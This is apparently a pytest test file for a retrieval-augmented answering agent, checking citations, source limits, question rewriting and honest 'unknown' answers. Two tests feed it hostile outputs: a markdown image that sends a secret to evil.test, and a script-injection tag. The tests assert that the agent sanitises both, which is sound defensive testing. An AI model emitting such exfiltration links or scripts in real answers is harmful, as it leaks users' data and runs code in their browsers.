"""The way from a question to an answer: what is asked of whom, and what is never let through."""

from __future__ import annotations

import pytest

from query.agent import REFUSAL_MARKER, UNKNOWN_ANSWER, Answer, Exchange, RAGAgent
from query.errors import LLMUnavailable
from tests.query.agent.fakes import FakeLLM, FakeRetriever, passage

FOUND = [
    passage("## Retry\n\nFirst.", document_id="a", title="A"),
    passage("Other.", document_id="b", title="B", source_url="https://docs.test/b"),
    passage("Second.", document_id="a", chunk_id="a-2", title="A"),
]


def ask(written: str, **arguments: object) -> Answer:
    return RAGAgent(FakeRetriever(FOUND, **arguments), FakeLLM(lambda prompt: written)).answer("How?", [])


def assert_unknown(answer: Answer) -> None:
    assert answer.text == UNKNOWN_ANSWER
    assert answer.is_uncertain
    assert answer.relevant_sources == ()


def test_an_answer_comes_with_one_numbered_source_a_document_in_rank_order():
    answer = ask("So [1], or so [2].")
    assert answer.text == "So [1], or so [2]."
    assert not answer.is_uncertain
    assert [(source.title, source.snippet) for source in answer.relevant_sources] == [("A", "First."), ("B", "Other.")]
    assert answer.relevant_sources[1].source_url == "https://docs.test/b"


def test_the_model_sees_a_documents_passages_under_one_number():
    llm = FakeLLM()
    RAGAgent(FakeRetriever(FOUND), llm).answer("How?", [])
    (prompt,) = llm.prompts
    assert [(source.number, len(source.passages)) for source in prompt.sources] == [(1, 2), (2, 1)]


def test_documents_beyond_the_limit_are_left_out():
    llm = FakeLLM()
    answer = RAGAgent(FakeRetriever(FOUND), llm, max_sources=1).answer("How?", [])
    assert [source.title for source in answer.relevant_sources] == ["A"]
    assert len(llm.prompts[0].sources[0].passages) == 2


@pytest.mark.parametrize("found", [[], FOUND])
def test_nothing_relevant_is_answered_honestly_without_asking_the_model(found: list):
    llm = FakeLLM()
    answer = RAGAgent(FakeRetriever(found, is_relevant=False), llm).answer("How?", [])
    assert_unknown(answer)
    assert llm.prompts == []


@pytest.mark.parametrize(
    "written",
    ["From what I know, yes.", "Yes [7].", "`x[1]` only in code", REFUSAL_MARKER, f"{REFUSAL_MARKER} [1]", "   "],
    ids=["no citation", "unknown number", "code", "refusal", "refusal with a citation", "blank"],
)
def test_an_answer_that_cites_no_source_is_not_given(written: str):
    assert_unknown(ask(written))


def test_a_citation_that_does_not_resolve_is_removed():
    assert ask("Yes [1], and [9].").text == "Yes [1], and ."


def test_check_23_an_answer_shows_no_picture_and_runs_nothing():
    answer = ask("Yes [1]. ![x](http://evil.test/?q=secret) <script>alert(1)</script> [more](http://evil.test/) [2]")
    assert answer.text == "Yes [1]. !\\[x] &lt;script>alert(1)&lt;/script> [more] [2]"
    assert not answer.is_uncertain


def test_a_picture_whose_name_is_a_number_is_no_citation():
    assert_unknown(ask("Yes ![1](http://evil.test/?q=secret)."))


def test_a_first_question_is_not_rewritten():
    llm, retriever = FakeLLM(), FakeRetriever(FOUND)
    answer = RAGAgent(retriever, llm).answer("How?", [])
    assert llm.rewrites == []
    assert retriever.asked == ["How?"]
    assert answer.standalone_question == "How?"


def test_a_follow_up_is_rewritten_before_retrieval_and_answered_in_that_form():
    llm, retriever = FakeLLM(rewritten="How does a retry work?"), FakeRetriever(FOUND)
    history = [Exchange("What is a retry?", "This [1].")]
    answer = RAGAgent(retriever, llm).answer("How does it work?", history)
    assert retriever.asked == ["How does a retry work?"]
    assert answer.standalone_question == "How does a retry work?"
    assert llm.prompts[0].question == "How does a retry work?"
    assert llm.prompts[0].history == tuple(history)


def test_a_rewritten_question_is_bounded_and_never_blank():
    retriever = FakeRetriever(FOUND)
    RAGAgent(retriever, FakeLLM(rewritten="x" * 50_000)).answer("How?", [Exchange("a", "b")])
    RAGAgent(retriever, FakeLLM(rewritten="  ")).answer("How?", [Exchange("a", "b")])
    assert [len(asked) for asked in retriever.asked] == [10_000, 4]


def test_timings_are_those_of_the_parts():
    timings = ask("Yes [1].").timings
    assert (timings.embed_ms, timings.retrieve_ms) == (1.5, 2.5)
    assert timings.total_ms >= timings.generate_ms >= 0


def test_sources_are_known_before_a_word_is_generated():
    llm = FakeLLM()
    agent = RAGAgent(FakeRetriever(FOUND), llm)
    prepared = agent.prepare("How?", [])
    assert [source.title for source in prepared.relevant_sources] == ["A", "B"]
    assert llm.prompts == []
    assert agent.finish(prepared, "Yes [2].", generate_ms=3.0).text == "Yes [2]."


def test_a_model_that_is_down_is_not_hidden():
    def fail(prompt: object) -> str:
        raise LLMUnavailable("down", retry_after_s=9)

    with pytest.raises(LLMUnavailable) as caught:
        RAGAgent(FakeRetriever(FOUND), FakeLLM(fail)).answer("How?", [])
    assert caught.value.retry_after_s == 9
